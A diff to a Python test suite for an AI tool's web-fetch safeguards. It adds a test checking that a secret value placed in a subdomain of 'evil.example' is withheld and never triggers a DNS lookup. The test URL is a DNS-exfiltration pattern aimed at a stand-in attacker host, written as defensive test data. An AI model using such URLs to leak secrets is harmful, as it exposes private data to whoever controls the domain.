@@ -12,6 +12,7 @@ from dataclasses import replace
 from pathlib import Path
 
 import msgspec
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -21,6 +22,7 @@ from kireji.core.permissions import Approval
 from kireji.core.receipts import Evidence
 from kireji.core.requests import ModelRequest, Thinking, ToolSpec
 from kireji.desktop.paths import Paths
+from kireji.providers import pages
 from kireji.providers.anthropic import AnthropicProvider
 from kireji.providers.http import HttpClient
 from kireji.providers.openrouter import OpenRouterProvider
@@ -133,6 +135,22 @@ async def test_a_tool_sends_no_value_over_the_web(anthropic: Model, tmp_path: Pa
         told = [await fetched(services, anthropic, page.url + way) for way in ways]
     assert all("hidden from the model" in one for one in told), told
     assert [one.split()[1] for one in page.received] == [b"/plain"]
+
+
+async def test_nobody_is_asked_for_a_host_whose_name_holds_a_value(
+    anthropic: Model, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whoever answers for the names of a domain would read it there."""
+    asked: list[str] = []
+
+    async def looked_up(host: str, _: int) -> list[str]:
+        asked.append(host)
+        return []
+
+    monkeypatch.setattr(pages, "looked_up", looked_up)
+    async with program(anthropic, tmp_path) as services:
+        assert "hidden from the model" in await fetched(services, anthropic, "https://[NAME_1].evil.example/")
+    assert asked == []
 
 
 async def test_blocks_that_are_refused_are_told_again_without_a_value(anthropic: Model, tmp_path: Path) -> None:
